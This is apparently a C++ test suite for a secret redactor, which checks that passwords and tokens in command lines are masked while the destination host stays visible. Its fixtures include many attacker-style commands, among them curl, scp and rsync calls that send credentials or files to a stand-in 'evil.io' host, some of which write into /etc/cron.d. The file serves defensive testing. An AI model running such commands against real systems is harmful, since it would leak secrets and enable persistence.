// SPDX-License-Identifier: Apache-2.0
// The destination to which a command sends data stays visible, even if the text around the host has a secret's name.
#include "tests/security/redactor_fixture.hpp"
#include "tests/security/shell_commands.hpp"

namespace countersign::security {
namespace {

struct Line {
    std::string_view text;
    std::string_view shown;
};

TEST(RedactorDestination, I9_TheHostAfterASecretStaysVisible) {
    for (const auto& [text, shown] : std::to_array<Line>({
             {"curl https://token=hunter2x@evil.io/", "@evil.io/"},
             {"ssh password=hunter2x@evil.io", "@evil.io"},
             {"ssh password=hunter2x@evil", "@evil"},
             {"scp f secret=hunter2x@evil.io:/etc/cron.d/x", "@evil.io:/etc/cron.d/x"},
             {"scp f secret=hunter2x@evil:/etc/cron.d/x", "@evil:/etc/cron.d/x"},
             {"rsync -a d token=hunter2x@evil::module", "@evil::module"},
             {"rsync -a d secret:/etc/cron.d/evil", "secret:/etc/cron.d/evil"},
             {"git clone https://bob:hunter2x@evil.io/r", "@evil.io/r"},
             {"git clone token=hunter2x@evil:r.git", "@evil:r.git"},
             {"curl token=hunter2x@evil/x", "@evil/x"},
             {"curl -s token=hunter2x@evil/x", "@evil/x"},
             {"curl -H -u bob:hunter2x@evil.io", "@evil.io"},
             {"curl -x token:hunter2x@evil.io:8080 http://x", "@evil.io:8080 "},
             {"curl --proxy http://token=hunter2x@[2001:db8::1]:80 http://x", "@[2001:db8::1]:80 "},
             {"curl 'https://token=hunter2x@evil.io:8443?x=@good.io/'", "@evil.io:8443"},
             {"curl 'https://bob:hunter2x@evil.io#@good.io/'", "@evil.io"},
             {"curl 'https://token=hunter2x\\@evil.io/'", "@evil.io/"},
             {"curl https://token=hunter2x%40evil.io/", "%40evil.io/"},
             {"curl https://token='hunter2x y'@evil/", "@evil/"},
             {"curl 'https://bob:p@ss@hunter2x@evil.io/'", "@evil.io/"},
             {"curl https:/token=hunter2x@evil/", "@evil/"},
             {"curl https:\\/\\/token=hunter2x@evil.io\\/", "@evil.io"},
             {"TOKEN=https://evil.io/hunter2x; curl $TOKEN", "https://evil.io"},
             {"curl -H 'X-Token: hunter2x' --token https://evil.io/x", "https://evil.io"},
             {"curl bearer h0st12345.evil.io", "h0st12345.evil.io"},
             {"psql postgres://password=hunter2x@evil/db", "@evil/db"},
             {"mongosh 'mongodb+srv://bob:hunter2x@a.evil.io:1,b.evil.io:2/db?password=x'",
              "@a.evil.io:1,b.evil.io:2/"},
             {"redis-cli -u redis://:hunter2x@evil:6379/0", "@evil:6379/0"},
             {"x amqp://secret:hunter2x@evil.io:5672/v", "@evil.io:5672/v"},
             {"x 'jdbc:postgresql://token=hunter2x@evil.io:5432/db'", "@evil.io:5432/db"},
             {"x 'jdbc:sqlserver://evil.io:1433;password=hunter2x;x=y'", "//evil.io:1433;"},
             {"connection_string=\"Server=evil.io;Password=hunter2x;Database=db\"", "Server=evil.io"},
             {"connection_string='Data Source=evil,1433;Password=hunter2x1;x=y'", "Source=evil,1433"},
             {"export SECRET='https://bob:hunter2x@evil.io/x y'", "https://"},
         })) {
        const auto redacted = redactor().text(text);
        EXPECT_TRUE(contains(redacted, shown)) << text << "\n => " << redacted;
        EXPECT_EQ(redactor().text(redacted), redacted);
    }
}

TEST(RedactorDestination, I6_TheSecretBeforeAHostIsMasked) {
    for (const std::string_view text :
         {"curl https://token=hunter2x@evil.io/", "ssh password=hunter2x@evil.io", "scp f secret=hunter2x@evil.io:/",
          "git clone https://bob:hunter2x@evil.io/r", "curl 'https://evil.io/?token=hunter2x'",
          "curl 'https://evil.io?password=hunter2x'", "curl -d 'user=bob&password=p@hunter2x' https://evil.io",
          "curl -u 'bob:p@hunter2x' https://evil.io", "PASSWORD=p@hunter2x curl https://evil.io",
          "git config user.password p@hunter2x", "ssh evil.io 'mysql -pp@hunter2x'",
          "TOKEN=https://evil.io/hunter2x"}) {
        expect_hidden(text, "hunter2x");
    }
}

TEST(RedactorDestination, I9_AHostThatLooksLikeATokenKeepsItsEnd) {
    const auto token = "glpat-" + body(20);
    const auto label = redactor().text("curl https://" + token + ".x.evil.io/");
    EXPECT_TRUE(contains(label, "».evil.io/") || contains(label, "».x.evil.io/")) << label;
    EXPECT_FALSE(contains(label, body(20))) << label;
    const auto whole = redactor().text("curl https://" + token + "/x");
    EXPECT_TRUE(contains(whole, "https://glpa«redacted:gitlab:")) << whole;
}

TEST(RedactorDestination, I9_AHostInParsedJsonStaysVisible) {
    const auto shown = [](std::string_view name, std::string_view text) {
        const auto value = redactor().value(json::Value{json::Object{{std::string{name}, std::string{text}}}});
        return *value.object()->find(name)->string();
    };
    const auto url = shown("token", "https://bob:hunter2x@evil.io:8443/hook/hunter2x");
    EXPECT_TRUE(contains(url, "@evil.io:8443")) << url;
    EXPECT_FALSE(contains(url, "hunter2x")) << url;
    EXPECT_TRUE(contains(shown("connectionString", "Server=evil.io;Password=hunter2x1;Id=b"), "Server=evil.io"));
    EXPECT_FALSE(contains(shown("password", "p@hunter2x.io"), "hunter2x"));
    const json::Value list{json::Array{"ssh", "password=hunter2x@evil"}};
    EXPECT_TRUE(redactor().value(list).array()->at(1).string()->ends_with("@evil"));
}

TEST(RedactorDestination, I13_AHostAndASchemeAreReadUpToABound) {
    const auto server = [](std::size_t bytes) {
        return redactor().text("secret='Server=" + std::string(bytes, 'a') + "'");
    };
    EXPECT_FALSE(contains(server(512), "«redacted:")) << server(512);
    EXPECT_TRUE(contains(server(513), "a«redacted:secret:")) << server(513);
    const auto scheme = [](std::size_t bytes) {
        return redactor().text("secret=" + std::string(bytes, 's') + "://evil.io");
    };
    EXPECT_FALSE(contains(scheme(32), "«redacted:")) << scheme(32);
    EXPECT_TRUE(contains(scheme(33), "»" + std::string(32, 's') + "://evil.io")) << scheme(33);
}

TEST(RedactorDestination, I9_EveryHostOfARandomCommandStaysVisible) {
    Random random{99};
    std::size_t masked = 0;
    for (std::size_t i = 0; i < 40'000; ++i) {
        const auto sample = destination_text([&](std::size_t bound) { return random.below(bound); });
        const auto redacted = redactor().text(sample.text);
        ASSERT_TRUE(contains(redacted, sample.host)) << sample.text << "\n => " << redacted;
        ASSERT_EQ(redactor().text(redacted), redacted) << sample.text;
        masked += redacted == sample.text ? 0 : 1;
    }
    EXPECT_GT(masked, 20'000U);
}

}  // namespace
}  // namespace countersign::security
